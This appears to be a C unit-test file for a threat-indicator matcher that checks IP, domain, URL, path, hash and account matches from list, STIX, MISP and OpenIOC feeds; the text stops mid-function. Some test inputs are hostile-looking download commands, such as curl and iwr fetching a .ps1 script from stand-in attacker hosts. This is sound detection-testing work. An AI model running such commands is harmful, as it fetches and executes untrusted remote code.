/* Indicators: what lists are understood, what is found in which field and what only looks like it,
 * and what a match is worth. */
#include "base/buf.h"
#include "detect/indicators/indicators.h"
#include "kit.h"

struct scene {
    struct arena arena;
    struct names names;
    struct indicators *set;
    struct indicator_run *run;
    char told[2048], fields[4096]; /* rules; all that the last hit says */
};

static void scene_open(struct scene *s)
{
    *s = (struct scene){.told = ""};
    arena_init(&s->arena, 256 << 20);
    CHECK(names_init(&s->names, &s->arena));
    indicators_names(&s->names);
    s->set = indicators_new(&s->arena, &s->names, (struct hash_key){1, 2});
    CHECK(s->set);
}

static void scene_read(struct scene *s, const char *file, const char *text)
{
    indicators_read(s->set, str_of(file), bytes_of_str(str_of(text)));
}

static void scene_build(struct scene *s)
{
    indicators_build(s->set);
    s->run = indicator_run_new(s->set);
}

static void scene_of(struct scene *s, const char *list)
{
    scene_open(s);
    scene_read(s, "list", list);
    scene_build(s);
}

static void scene_close(struct scene *s)
{
    indicator_run_free(s->run);
    indicators_done(s->set);
    arena_done(&s->arena);
}

static str field_of(const struct indicator_hit *hit, const char *name)
{
    for (size_t i = 0; i < hit->nfields; i++) {
        if (str_eq(hit->fields[i].name, str_of(name))) {
            return hit->fields[i].value;
        }
    }
    return STR_NONE;
}

static void on_hit(void *ctx, const struct indicator_hit *hit)
{
    struct scene *s = ctx;
    size_t len = strlen(s->told);
    str id = str_from(indicators_rule(s->set, hit->rule)->id, sizeof "indicator-" - 1);
    (void)snprintf(s->told + len, sizeof s->told - len, "%s%.*s=%.*s", len ? " " : "", STR_ARG(id),
                   STR_ARG(field_of(hit, "Indicator")));
    for (size_t i = 0, at = 0; i < hit->nfields && at < sizeof s->fields; i++) {
        const struct named_value *f = &hit->fields[i];
        at += (size_t)snprintf(s->fields + at, sizeof s->fields - at, "%.*s=%.*s\n",
                               STR_ARG(f->name), STR_ARG(f->value));
    }
}

static str look_at(struct scene *s, const char *name, str value, usec time, const char *channel,
                   uint32_t event_id)
{
    const struct origin origin = {.channel = str_of(channel), .event_id = event_id};
    const struct field f = {str_of(name), bytes_of_str(value).p, (uint32_t)value.len,
                            names_find(&s->names, str_of(name)), VALUE_TEXT};
    const struct event e = {.time = time, .origin = &origin, .fields = &f, .nfields = 1};
    s->told[0] = 0;
    for (int twice = 0; twice < 2; twice++) { /* the second time from what is remembered */
        s->told[0] = 0;
        indicator_run_event(s->run, &e, &s->arena, on_hit, s);
    }
    return str_of(s->told);
}

static str in(struct scene *s, const char *field, const char *value)
{
    return look_at(s, field, str_of(value), TIME_NONE, "x", 0);
}

static void an_address_is_found_as_a_whole_and_in_every_spelling(void)
{
    struct scene s;
    scene_of(&s, "1.2.3.4\n2001:db8::5\n");
    CHECK_STR(in(&s, "c-ip", "1.2.3.4"), "address-connected=1.2.3.4");
    CHECK_STR(in(&s, "c-ip", "1.2.3.4:50123"), "address-connected=1.2.3.4:50123");
    CHECK_STR(in(&s, "c-ip", "::ffff:1.2.3.4"), "address-connected=::ffff:1.2.3.4");
    CHECK_STR(in(&s, "c-ip", "2001:0DB8:0:0::5"), "address-connected=2001:0DB8:0:0::5");
    CHECK_STR(in(&s, "c-ip", "[2001:db8::5]:443"), "address-connected=[2001:db8::5]:443");
    CHECK_STR(in(&s, "c-ip", "11.2.3.45"), "");
    CHECK_STR(in(&s, "c-ip", "1.2.3.40"), "");
    CHECK_STR(in(&s, "c-ip", "2001:db8::51"), "");
    CHECK_STR(in(&s, "c-ip", "-"), "");
    CHECK_STR(in(&s, "CommandLine", "curl -k https://1.2.3.4:8443/a.ps1"),
              "address-executed=1.2.3.4:8443");
    CHECK_STR(in(&s, "CommandLine", "ping 1.2.3.4."), "address-executed=1.2.3.4");
    CHECK_STR(in(&s, "CommandLine", "setup-11.2.3.4.exe 1.2.3.4.5 v1.2.3.4"), "");
    CHECK_STR(in(&s, "cs-uri-query", "target=http%3A%2F%2F1.2.3.4%2Fx&b=1"),
              "address-mentioned=1.2.3.4");
    CHECK_STR(in(&s, "cs-uri-query", "target=11.2.3.4&b=1.2.3.45"), "");
    scene_close(&s);
}

static void a_network_holds_its_addresses_and_no_others(void)
{
    struct scene s;
    scene_of(&s, "10.20.0.0/14\n2001:db8:1::/48\n");
    CHECK_STR(in(&s, "SourceIp", "10.23.255.255"), "network-connected=10.23.255.255");
    CHECK_STR(in(&s, "SourceIp", "2001:db8:1:ffff::"), "network-connected=2001:db8:1:ffff::");
    CHECK_STR(in(&s, "SourceIp", "2001:db8:2::1"), "");
    scene_close(&s);
    scene_of(&s, "10.20.0.0/14\n");
    CHECK_STR(in(&s, "SourceIp", "10.24.0.0"), "");
    CHECK_STR(in(&s, "SourceIp", "10.19.255.255"), "");
    scene_close(&s);
}

static void a_domain_is_found_with_its_subdomains_at_borders_of_labels(void)
{
    struct scene s;
    scene_of(&s, "evil.example\nb\xc3\xbc"
                 "cher.example\n");
    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
    CHECK_STR(in(&s, "QueryName", "WWW.Evil.Example."), "domain-resolved=evil.example");
    CHECK_STR(in(&s, "QueryName", "devil.example"), "");
    CHECK_STR(in(&s, "QueryName", "evil.example.org"), "");
    CHECK_STR(in(&s, "QueryName", "example"), "");
    CHECK_STR(in(&s, "QueryName", "xn--bcher-kva.example"),
              "domain-resolved=xn--bcher-kva.example");
    CHECK_STR(in(&s, "QueryName",
                 "www.B\xc3\x9c"
                 "CHER.example"),
              "domain-resolved=xn--bcher-kva.example");
    CHECK_STR(in(&s, "cs-host", "a.evil.example:8080"), "domain-visited=evil.example");
    CHECK_STR(in(&s, "cs-referer", "https://u:p@c.evil.example/x?y"),
              "domain-mentioned=evil.example");
    CHECK_STR(in(&s, "Message", "mail from bob@evil.example, read"),
              "domain-mentioned=evil.example");
    CHECK_STR(in(&s, "Message", "see not-evil.example or evil.examples"), "");
    scene_close(&s);
}

static void a_url_is_found_whatever_its_scheme_and_query(void)
{
    struct scene s;
    scene_of(&s, "hxxp://bad[.]example/Drop/a.ps1\nbad.example:8080/x\n");
    CHECK_STR(in(&s, "c-uri", "http://BAD.example/Drop/a.ps1"),
              "url-visited=http://BAD.example/Drop/a.ps1");
    CHECK_STR(in(&s, "c-uri", "https://bad.example:443/Drop/a.ps1?x=1#y"),
              "url-visited=https://bad.example:443/Drop/a.ps1");
    CHECK_STR(in(&s, "CommandLine", "iwr 'http://bad.example/Drop/a.ps1' -o x"),
              "url-executed=http://bad.example/Drop/a.ps1");
    CHECK_STR(in(&s, "c-uri", "http://bad.example:8080/x"),
              "url-visited=http://bad.example:8080/x");
    CHECK_STR(in(&s, "c-uri", "http://bad.example/drop/a.ps1"), "");
    CHECK_STR(in(&s, "c-uri", "http://bad.example/Drop/a.ps12"), "");
    CHECK_STR(in(&s, "c-uri", "http://bad.example/x"), "");
    scene_close(&s);
}

static void a_path_is_found_from_a_folder_on_and_a_rooted_one_as_a_whole(void)
{
    struct scene s;
    scene_of(&s, "owa\\auth\\Bad.aspx\n/tmp/.x\nC:\\Windows\\Temp\\p.dat\n");
    CHECK_STR(in(&s, "TargetFilename", "C:\\inetpub\\OWA\\auth\\bad.ASPX"),
              "path-written=owa\\auth\\bad.aspx");
    CHECK_STR(in(&s, "TargetFilename", "C:\\inetpub\\xowa\\auth\\bad.aspx"), "");
    CHECK_STR(in(&s, "TargetFilename", "C:\\owa\\auth\\bad.aspx.txt"), "");
    CHECK_STR(in(&s, "exe", "/tmp/.x"), "path-executed=\\tmp\\.x");
    CHECK_STR(in(&s, "exe", "/var/tmp/.x"), "");
    CHECK_STR(in(&s, "Image", "C:/windows/temp/p.dat"), "path-executed=c:\\windows\\temp\\p.dat");
    CHECK_STR(in(&s, "Image", "D:\\windows\\temp\\p.dat"), "");
    scene_close(&s);
}

static void a_file_name_is_the_last_part_of_a_path(void)
{
    struct scene s;
    scene_of(&s, "lsass32.exe\n");
    CHECK_STR(in(&s, "Image", "C:\\Users\\a\\LSASS32.exe"), "filename-executed=LSASS32.exe");
    CHECK_STR(in(&s, "CommandLine", "cmd /c \"c:\\t\\lsass32.exe\" -p"),
              "filename-executed=lsass32.exe");
    CHECK_STR(in(&s, "Image", "C:\\lsass32.exe\\a.exe"), "");
    CHECK_STR(in(&s, "Image", "C:\\xlsass32.exe"), "");
    scene_close(&s);
}

static void a_hash_is_found_in_lists_of_hashes_and_says_what_became_of_its_file(void)
{
    static const char md5[] = "0123456789abcdef0123456789ABCDEF";
    struct scene s;
    scene_of(&s, "0123456789ABCDEF0123456789abcdef\n");
    char all[256];
    (void)snprintf(all, sizeof all, "SHA1=%040d,MD5=%s", 7, md5);
    str want =
        look_at(&s, "Hashes", str_of(all), TIME_NONE, "Microsoft-Windows-Sysmon/Operational", 1);
    CHECK_STR(want, "hash-executed=0123456789abcdef0123456789ABCDEF");
    want =
        look_at(&s, "Hashes", str_of(all), TIME_NONE, "Microsoft-Windows-Sysmon/Operational", 11);
    CHECK_STR(want, "hash-written=0123456789abcdef0123456789ABCDEF");
    CHECK_STR(in(&s, "md5", md5), "hash-seen=0123456789abcdef0123456789ABCDEF");
    CHECK_STR(in(&s, "Message", "file 0123456789abcdef0123456789abcdef removed"),
              "hash-mentioned=0123456789abcdef0123456789abcdef");
    CHECK_STR(in(&s, "Message", "0123456789abcdef0123456789abcdef0"), "");
    CHECK_STR(in(&s, "md5", "0123456789abcdef0123456789abcdee"), "");
    scene_close(&s);
}

static void a_file_of_the_evidence_is_found_by_its_hash_and_its_place(void)
{
    uint8_t sha256[32];
    const bytes hash = {sha256, sizeof sha256};
    struct scene s;
    scene_of(&s,
             "abababababababababababababababababababababababababababababababab\nauth\\x.aspx\n");
    memset(sha256, 0xab, sizeof sha256);
    indicator_run_file(s.run, STR("C:\\web\\auth\\X.aspx"), &hash, 1, &s.arena, on_hit, &s);
    CHECK_STR(str_of(s.told),
              "path-seen=auth\\x.aspx "
              "hash-seen=abababababababababababababababababababababababababababababababab");
    s.told[0] = 0;
    indicator_run_file(s.run, STR("C:\\web\\auth\\y.aspx"), NULL, 0, &s.arena, on_hit, &s);
    CHECK_STR(str_of(s.told), "");
    scene_close(&s);
}

static void mail_agents_and_accounts_are_found_where_they_are_meant(void)
{
    struct scene s;
    scene_of(&s, "Bob@Evil.example\nuser-agent: Harmless/1.0 (x)\naccount: svc_x\n");
    CHECK_STR(in(&s, "sender-address", "bob@evil.EXAMPLE"), "email-mentioned=bob@evil.EXAMPLE");
    CHECK_STR(in(&s, "sender-address", "xbob@evil.example"), "");
    CHECK_STR(in(&s, "cs-user-agent", "Harmless/1.0+(x)"), "user-agent-connected=Harmless/1.0+(x)");
    CHECK_STR(in(&s, "cs-user-agent", "Harmless/1.0"), "");
    CHECK_STR(in(&s, "User", "CORP\\SVC_X"), "account-seen=CORP\\SVC_X");
    CHECK_STR(in(&s, "User", "CORP\\svc_xy"), "");
    scene_close(&s);
}

static void a_field_that_means_nothing_is_not_looked_into(void)
{
    struct scene s;
    scene_of(&s, "1.2.3.4\n");
    CHECK_STR(in(&s, "FileVersion", "1.2.3.4"), "");
    scene_close(&s);
}

static void confidence_validity_and_caveats_decide_what_a_match_is_worth(void)
{
    struct scene s;
    scene_open(&s);
    scene_read(&s, "a.csv",
               "type,value,incident,actor,confidence,valid_from,valid_until\n"
               "ipv4,192.0.2.1,Wave,Somebody,95,,\n"
               "ipv4,192.0.2.2,Wave,Somebody,20,,\n"
               "ipv4,192.0.2.3,Wave,Somebody,95,2021-01-01,2021-02-01\n"
               "ipv4,192.0.2.4,Wave,Somebody,95,,\n"
               "ipv4,192.0.2.5,Wave,benign,95,,\n");
    scene_read(&s, "notes.csv",
               "type,value,note\nipv4,192.0.2.4,\"a server, shared\"\n"
               "ipv4,192.0.2.9,not in any list\n");
    scene_build(&s);
    CHECK_INT(indicators_total(s.set), 5);
    CHECK_STR(in(&s, "c-ip", "192.0.2.1"), "address-connected=192.0.2.1");
    CHECK_STR(in(&s, "c-ip", "192.0.2.2"), "address-connected-weak=192.0.2.2");
    CHECK_STR(in(&s, "c-ip", "192.0.2.4"), "address-connected-weak=192.0.2.4");
    CHECK_STR(in(&s, "c-ip", "192.0.2.5"), "address-connected-context=192.0.2.5");
    CHECK_STR(in(&s, "c-ip", "192.0.2.9"), "");
    usec within = time_parse(STR("2021-01-15")), after = time_parse(STR("2021-03-01"));
    CHECK_STR(look_at(&s, "c-ip", STR("192.0.2.3"), within, "x", 0), "address-connected=192.0.2.3");
    CHECK_STR(look_at(&s, "c-ip", STR("192.0.2.3"), after, "x", 0),
              "address-connected-weak=192.0.2.3");
    for (uint32_t i = 0; i < indicators_rule_count(s.set); i++) {
        CHECK_INT(indicators_rule(s.set, i)->rung, RUNG_NONE);
        CHECK(indicators_rule(s.set, i)->weight <= WEIGHT_LEAD);
    }
    scene_close(&s);
}

static void stix_patterns_of_equalities_are_read_and_others_left_to_their_reader(void)
{
    struct scene s;
    scene_of(
        &s, "{\"type\":\"bundle\",\"objects\":["
            "{\"type\":\"indicator\",\"id\":\"indicator--1\",\"name\":\"One\",\"pattern\":"
            "\"[ipv4-addr:value = '192.0.2.1' OR domain-name:value = 'evil.example']\"},"
            "{\"type\":\"indicator\",\"id\":\"indicator--2\",\"pattern\":"
            "\"[file:name = 'a.exe' AND file:hashes.'MD5' = '0123456789abcdef0123456789abcdef']\"},"
            "{\"type\":\"indicator\",\"id\":\"indicator--3\",\"pattern\":"
            "\"[ipv4-addr:value = '192.0.2.9'] FOLLOWEDBY [ipv4-addr:value = '192.0.2.8']\"},"
            "{\"type\":\"indicator\",\"id\":\"indicator--4\",\"revoked\":true,\"pattern\":"
            "\"[ipv4-addr:value = '192.0.2.7']\"},"
            "{\"type\":\"indicator\",\"id\":\"indicator--5\",\"pattern_type\":\"yara\","
            "\"pattern\":\"rule x { condition: true }\"}]}");
    CHECK_STR(in(&s, "c-ip", "192.0.2.1"), "address-connected=192.0.2.1");
    CHECK_STR(in(&s, "QueryName", "a.evil.example"), "domain-resolved=evil.example");
    CHECK_STR(in(&s, "Image", "C:\\a.exe"), "");
    CHECK_STR(in(&s, "Hashes", "MD5=0123456789abcdef0123456789abcdef"),
              "hash-seen=0123456789abcdef0123456789abcdef");
    CHECK_STR(in(&s, "c-ip", "192.0.2.9"), "");
    CHECK_STR(in(&s, "c-ip", "192.0.2.7"), "");
    CHECK_INT(indicators_refused(s.set), 1);
    CHECK_STR(indicators_problem(s.set, 0)->rule, "indicator--5");
    scene_close(&s);
}

static void parts_that_have_to_hold_together_are_weak_without_a_hash(void)
{
    struct scene s;
    scene_of(&s,
             "{\"objects\":[{\"id\":\"indicator--1\",\"pattern\":\"[file:name = 'a.exe' AND "
             "file:size = '12']\"},{\"id\":\"indicator--2\",\"pattern\":\"[file:size = '12' "
             "AND file:ctime = 'x']\"},{\"id\":\"indicator--3\",\"pattern\":\"[file:size = '12' "
             "OR domain-name:value = 'evil.example']\"}]}");
    CHECK_STR(in(&s, "Image", "C:\\a.exe"), "filename-executed-weak=a.exe");
    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
    CHECK_INT(indicators_refused(s.set), 1);
    scene_close(&s);
}

static void a_pattern_of_very_many_values_is_read_in_time_that_grows_with_it(void)
{
    enum { MANY = 60000 };
    struct scene s;
    SCOPED(buf_done) struct buf list;
    buf_init(&list, 16 << 20);
    buf_add(&list,
            STR("{\"objects\":[{\"id\":\"indicator--1\",\"pattern\":\"[file:name = 'x.exe'"));
    for (int i = 0; i < MANY; i++) {
        buf_printf(&list, " OR ipv4-addr:value = '10.0.%d.%d'", i >> 8, i & 255);
    }
    buf_add(&list, STR("]\"}]}"));
    scene_open(&s);
    indicators_read(s.set, STR("many"), bytes_of_str(buf_str(&list)));
    scene_build(&s);
    CHECK_INT(indicators_total(s.set), MANY + 1);
    CHECK_STR(in(&s, "c-ip", "10.0.234.95"), "address-connected=10.0.234.95");
    CHECK_STR(in(&s, "c-ip", "10.0.234.96"), "");
    scene_close(&s);
}

static void a_bundle_says_what_its_indicators_indicate_wherever_it_says_it(void)
{
    struct scene s;
    scene_of(&s,
             "{\"type\":\"bundle\",\"objects\":["
             "{\"type\":\"relationship\",\"relationship_type\":\"indicates\",\"source_ref\":"
             "\"indicator--1\",\"target_ref\":\"malware--1\"},"
             "{\"type\":\"indicator\",\"id\":\"indicator--1\",\"name\":\"A name\",\"pattern\":"
             "\"[domain-name:value = 'evil.example']\",\"object_marking_refs\":["
             "\"marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da\","
             "\"marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1\"],\"kill_chain_phases\":"
             "[{\"kill_chain_name\":\"x\",\"phase_name\":\"command-and-control\"}]},"
             "{\"type\":\"indicator\",\"id\":\"indicator--2\",\"pattern\":"
             "\"[ipv4-addr:value = '192.0.2.7']\"},"
             "{\"type\":\"indicator\",\"id\":\"indicator--3\",\"indicator_types\":[\"benign\"],"
             "\"pattern\":\"[ipv4-addr:value = '192.0.2.8']\"},"
             "{\"type\":\"relationship\",\"relationship_type\":\"indicates\",\"source_ref\":"
             "\"indicator--1\",\"target_ref\":\"intrusion-set--1\"},"
             "{\"type\":\"relationship\",\"relationship_type\":\"indicates\",\"source_ref\":"
             "\"indicator--1\",\"target_ref\":\"indicator--1\"},"
             "{\"type\":\"indicator\",\"id\":\"indicator--2\",\"revoked\":true,\"pattern\":\"x\"},"
             "{\"type\":\"malware\",\"id\":\"malware--1\",\"name\":\"Harmless\"},"
             "{\"type\":\"intrusion-set\",\"id\":\"intrusion-set--1\",\"name\":\"Nobody\"}]}");
    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
    CHECK(str_has(str_of(s.fields), STR("IndicatorAbout=A name: Harmless, Nobody")));
    CHECK(str_has(str_of(s.fields), STR("IndicatorMarking=TLP:RED")));
    CHECK(str_has(str_of(s.fields), STR("IndicatorPhase=command-and-control")));
    CHECK_STR(in(&s, "c-ip", "192.0.2.7"), "");
    CHECK_STR(in(&s, "c-ip", "192.0.2.8"), "address-connected-context=192.0.2.8");
    scene_close(&s);
}

static void misp_says_who_what_may_be_told_and_what_is_legitimate(void)
{
    struct scene s;
    scene_of(
        &s,
        "{\"response\":[{\"Event\":{\"Attribute\":["
        "{\"type\":\"ip-dst\",\"value\":\"192.0.2.1\",\"to_ids\":true},"
        "{\"type\":\"ip-dst\",\"value\":\"192.0.2.2\",\"to_ids\":true,\"deleted\":true},"
        "{\"type\":\"ip-dst\",\"value\":\"192.0.2.3\",\"to_ids\":true,\"Sighting\":"
        "[{\"type\":\"1\"}]},"
        "{\"type\":\"ip-dst\",\"value\":\"192.0.2.4\",\"to_ids\":true,\"warnings\":"
        "[{\"warninglist_name\":\"x\"}],\"Tag\":[{\"name\":\"tlp:red\"}]},"
        "{\"type\":\"filename|md5\",\"to_ids\":true,"
        "\"value\":\"a|b.exe|0123456789abcdef0123456789abcdef\"}],"
        "\"RelatedEvent\":[{\"Event\":{\"info\":\"Another\"}}],"
        "\"Galaxy\":[{\"type\":\"threat-actor\",\"GalaxyCluster\":[{\"value\":\"Nobody\"}]}],"
        "\"Tag\":[{\"name\":\"tlp:amber+strict\"},{\"name\":\"misp-galaxy:malware=\\\"Harm\\\"\"}],"
        "\"info\":\"The wave\"}},{\"Event\":{\"info\":\"Other\",\"Attribute\":["
        "{\"type\":\"domain\",\"value\":\"evil.example\",\"to_ids\":true}]}}]}");
    CHECK_STR(in(&s, "c-ip", "192.0.2.1"), "address-connected=192.0.2.1");
    CHECK(str_has(str_of(s.fields), STR("IndicatorAbout=The wave: Nobody, Harm")));
    CHECK(str_has(str_of(s.fields), STR("IndicatorMarking=TLP:AMBER+STRICT")));
    CHECK_STR(in(&s, "c-ip", "192.0.2.2"), "");
    CHECK_STR(in(&s, "c-ip", "192.0.2.3"), "address-connected-weak=192.0.2.3");
    CHECK_STR(in(&s, "c-ip", "192.0.2.4"), "address-connected-weak=192.0.2.4");
    CHECK(str_has(str_of(s.fields), STR("IndicatorMarking=TLP:RED")));
    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
    CHECK(str_has(str_of(s.fields), STR("IndicatorAbout=Other")));
    CHECK_STR(in(&s, "Hashes", "0123456789abcdef0123456789abcdef"),
              "hash-seen=0123456789abcdef0123456789abcdef");
    CHECK_INT(indicators_refused(s.set), 0);
    scene_close(&s);
}

static void openioc_is_read_and_what_stands_below_an_and_is_weak(void)
{
    struct scene s;
    scene_open(&s);
    scene_read(
        &s, "wave.ioc",
        "<?xml version=\"1.0\" encoding=\"us-ascii\"?>\n<ioc id=\"i-1\" "
        "xmlns=\"http://schemas.mandiant.com/2010/ioc\"><short_description>The "
        "wave</short_description><definition><Indicator operator=\"OR\">"
        "<IndicatorItem condition=\"is\"><Context document=\"FileItem\" "
        "search=\"FileItem/Md5sum\"/>"
        "<Content type=\"md5\">0123456789abcdef0123456789abcdef</Content></IndicatorItem>"
        "<IndicatorItem condition=\"is\"><Context search=\"Network/DNS\"/>"
        "<Content>evil.example</Content></IndicatorItem>"
        "<Indicator operator=\"AND\"><IndicatorItem condition=\"is\"><Context "
        "search=\"FileItem/FileName\"/><Content>a.exe</Content></IndicatorItem>"
        "<IndicatorItem condition=\"contains\"><Context search=\"ProcessItem/arguments\"/>"
        "<Content>-evil-</Content></IndicatorItem></Indicator>\n"
        "<IndicatorItem condition=\"is\"><Context search=\"FileItem/SizeInBytes\"/>"
        "<Content>12</Content></IndicatorItem>"
        "<IndicatorItem condition=\"is\" negate=\"true\"><Context search=\"FileItem/FileName\"/>"
        "<Content>b.exe</Content></IndicatorItem></Indicator></definition></ioc>");
    scene_read(&s, "open.ioc",
               "<OpenIOC xmlns=\"http://openioc.org/schemas/OpenIOC_1.1\" id=\"2\"><criteria>"
               "<Indicator operator=\"OR\"><IndicatorItem condition=\"matches\"><Context "
               "search=\"FileItem/FullPath\"/><Content>(?i)ctl\\.dll$</Content></IndicatorItem>"
               "</Indicator></criteria></OpenIOC>");
    scene_read(&s, "bomb.ioc",
               "<!DOCTYPE x [<!ENTITY a \"aaaa\">]>\n<ioc id=\"3\"><definition/></ioc>");
    scene_build(&s);
    CHECK_STR(in(&s, "Hashes", "MD5=0123456789abcdef0123456789abcdef"),
              "hash-seen=0123456789abcdef0123456789abcdef");
    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
    CHECK(str_has(str_of(s.fields), STR("IndicatorAbout=The wave\n")));
    CHECK_STR(in(&s, "Image", "C:\\a.exe"), "filename-executed-weak=a.exe");
    CHECK_STR(in(&s, "CommandLine", "x -evil- y"), "text-executed-weak=x -evil- y");
    CHECK_STR(in(&s, "Image", "C:\\b.exe"), "");
    CHECK_STR(in(&s, "ImageLoaded", "C:\\CTL.dll"), "expression-executed=C:\\CTL.dll");
    CHECK_INT(indicators_refused(s.set), 3);
    CHECK_INT(indicators_problem(s.set, 0)->line, 3);
    scene_close(&s);
}

static void the_hashes_of_a_feed_are_no_list(void)
{
    struct scene s;
    scene_of(&s, "0123456789abcdef0123456789abcdef,5c0b1ed1-4ad8-4d10-8b1c-4c9f950d210f\n"
                 "1123456789abcdef0123456789abcdef,5c0b1ed1-4ad8-4d10-8b1c-4c9f950d210f\n");
    CHECK_INT(indicators_total(s.set), 0);
    CHECK_INT(indicators_refused(s.set), 0);
    scene_close(&s);
}

/* Of each vector: what the attribute names is found by the attribute read as MISP and by its
 * pattern read as STIX, or neither is read and both are told. */
static void attributes_and_their_patterns_are_read_alike(void)
{
    static char room[1 << 16];
    size_t both = 0, neither = 0;
    (void)snprintf(room, sizeof room, "%s/conformance/misp/misp-stix-attributes.dev.jsonl",
                   kit_shared() ? kit_shared() : "");
    FILE *f = kit_shared() ? fopen(room, "r") : NULL;
    if (!f) {
        SKIP("LIMIER_SHARED has no attributes of MISP");
        return;
    }
    while (fgets(room, sizeof room, f)) {
        str line = str_of(room);
        struct scene misp, stix;
        str pattern = str_from(line, str_find(line, STR("\"stix_pattern\":")));
        pattern = str_sub(pattern, 0, str_find(pattern, STR(",\"scos\"")));
        str attribute = str_from(line, str_find(line, STR("\"misp\":{")) + 8);
        attribute = str_sub(attribute, 0, str_find(attribute, STR("},\"src\"")));
        if (pattern.len == 0) {
            continue;
        }
        scene_open(&misp);
        scene_open(&stix);
        SCOPED(buf_done) struct buf list;
        buf_init(&list, 1 << 20);
        buf_printf(&list, "{\"Event\":{\"Attribute\":[{\"to_ids\":true,%.*s}]}}",
                   STR_ARG(attribute));
        indicators_read(misp.set, STR("misp"), bytes_of_str(buf_str(&list)));
        buf_clear(&list);
        buf_printf(&list, "{\"objects\":[{\"id\":\"indicator--1\",\"pattern\":%.*s}]}",
                   STR_ARG(str_from(pattern, sizeof "\"stix_pattern\":" - 1)));
        indicators_read(stix.set, STR("stix"), bytes_of_str(buf_str(&list)));
        scene_build(&misp);
        scene_build(&stix);
        bool read = indicators_total(misp.set) > 0;
        for (int k = 0; read && k < KIND_COUNT; k++) {
            size_t of_misp = indicators_count(misp.set, (enum indicator_kind)k);
            size_t of_stix = indicators_count(stix.set, (enum indicator_kind)k);
            CHECK_INT(of_stix, of_misp);
            if (of_stix != of_misp) {
                (void)fprintf(stderr, "%.*s\n", (int)(line.len < 200 ? line.len : 200), line.p);
            }
        }
        CHECK(read || indicators_refused(misp.set) > 0);
        CHECK(read || indicators_refused(stix.set) > 0);
        both += read;
        neither += !read;
        scene_close(&misp);
        scene_close(&stix);
    }
    (void)fclose(f);
    CHECK(both >= 40);
    (void)printf("%zu attributes read, %zu told as not understood\n", both, neither);
}

static void misp_attributes_for_detection_are_read(void)
{
    struct scene s;
    scene_of(&s, "{\"Event\":{\"info\":\"Wave\",\"Attribute\":["
                 "{\"type\":\"ip-dst|port\",\"value\":\"192.0.2.1|443\",\"to_ids\":true},"
                 "{\"type\":\"filename|md5\",\"to_ids\":true,"
                 "\"value\":\"x.exe|0123456789abcdef0123456789abcdef\"},"
                 "{\"type\":\"ip-dst\",\"value\":\"192.0.2.2\",\"to_ids\":false}],"
                 "\"Object\":[{\"Attribute\":[{\"type\":\"domain|ip\",\"to_ids\":true,"
                 "\"value\":\"evil.example|192.0.2.3\"}]}]}}");
    CHECK_INT(indicators_total(s.set), 4);
    CHECK_INT(indicators_refused(s.set), 0);
    CHECK_STR(in(&s, "c-ip", "192.0.2.1"), "address-connected=192.0.2.1");
    CHECK_STR(in(&s, "c-ip", "192.0.2.2"), "");
    CHECK_STR(in(&s, "c-ip", "192.0.2.3"), "address-connected=192.0.2.3");
    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
    CHECK_STR(in(&s, "Image", "C:\\x.exe"), "");
    scene_close(&s);
}

static void what_is_not_understood_is_told_with_its_line(void)
{
    struct scene s;
    scene_of(&s, "# a list\n1.2.3.4\nhello\n999.1.1.1\n\nevil.example # remark\n");
    CHECK_INT(indicators_total(s.set), 2);
    CHECK_INT(indicators_refused(s.set), 2);
    CHECK_INT(indicators_problem(s.set, 0)->line, 3);
    CHECK_STR(indicators_problem(s.set, 0)->rule, "hello");
    CHECK_INT(indicators_problem(s.set, 1)->line, 4);
    scene_close(&s);
}

static void hostile_lists_cost_their_own_lines_and_no_others(void)
{
    static const char nuls[] = "1.2.3.4\nevil\0.example\n5.6.7.8\n";
    struct scene s;
    scene_open(&s);
    indicators_read(s.set, STR("nuls"), (bytes){(const uint8_t *)nuls, sizeof nuls - 1});
    scene_read(&s, "csv", "type,value\n\"ipv4,9.9.9.9\nipv4,8.8.8.8\nipv4\nmd5,zz\n,,,,,\n");
    scene_read(&s, "json", "{\"objects\":[{\"pattern\":\"[ipv4-addr:value='7.7.7.7']\"},{]");
    SCOPED(buf_done) struct buf deep;
    buf_init(&deep, 1 << 20);
    for (int i = 0; i < 100000; i++) {
        buf_add(&deep, STR("{\"a\":"));
    }
    indicators_read(s.set, STR("deep"), bytes_of_str(buf_str(&deep)));
    SCOPED(buf_done) struct buf line;
    buf_init(&line, 32 << 20);
    for (int i = 0; i < 1 << 20; i++) {
        buf_add(&line, STR("aaaaaaaaaaaaaaaa"));
    }
    buf_add(&line, STR("\n6.6.6.6\n"));
    indicators_read(s.set, STR("long"), bytes_of_str(buf_str(&line)));
    scene_build(&s);
    CHECK_STR(in(&s, "c-ip", "1.2.3.4"), "address-connected=1.2.3.4");
    CHECK_STR(in(&s, "c-ip", "5.6.7.8"), "address-connected=5.6.7.8");
    CHECK_STR(in(&s, "c-ip", "6.6.6.6"), "address-connected=6.6.6.6");
    CHECK_STR(in(&s, "c-ip", "7.7.7.7"), "address-connected=7.7.7.7");
    CHECK_STR(in(&s, "c-ip", "8.8.8.8"), "address-connected=8.8.8.8");
    CHECK_INT(indicators_refused(s.set), 7);
    scene_close(&s);
}

static void a_set_takes_less_than_32_bytes_an_indicator(void)
{
    enum { MANY = 100000 };
    struct scene s;
    SCOPED(buf_done) struct buf list;
    scene_open(&s);
    buf_init(&list, 16 << 20);
    for (int i = 0; i < MANY; i++) {
        buf_printf(&list, "host%d.long-name-of-a-domain.example\n", i);
    }
    indicators_read(s.set, STR("many"), bytes_of_str(buf_str(&list)));
    scene_build(&s);
    CHECK_INT(indicators_total(s.set), MANY);
    CHECK(indicators_bytes(s.set) < (size_t)32 * MANY);
    int found = 0;
    for (int i = 0; i < 2 * MANY; i += 97) {
        char name[64];
        (void)snprintf(name, sizeof name, "host%d.long-name-of-a-domain.example", i);
        bool hit = in(&s, "QueryName", name).len > 0;
        CHECK_INT(hit, i < MANY);
        found += hit;
    }
    CHECK(found > 1000);
    scene_close(&s);
}

static void a_hash_and_a_name_are_found_at_the_end_of_a_sentence(void)
{
    static const char md5[] = "0123456789abcdef0123456789abcdef";
    struct scene s;
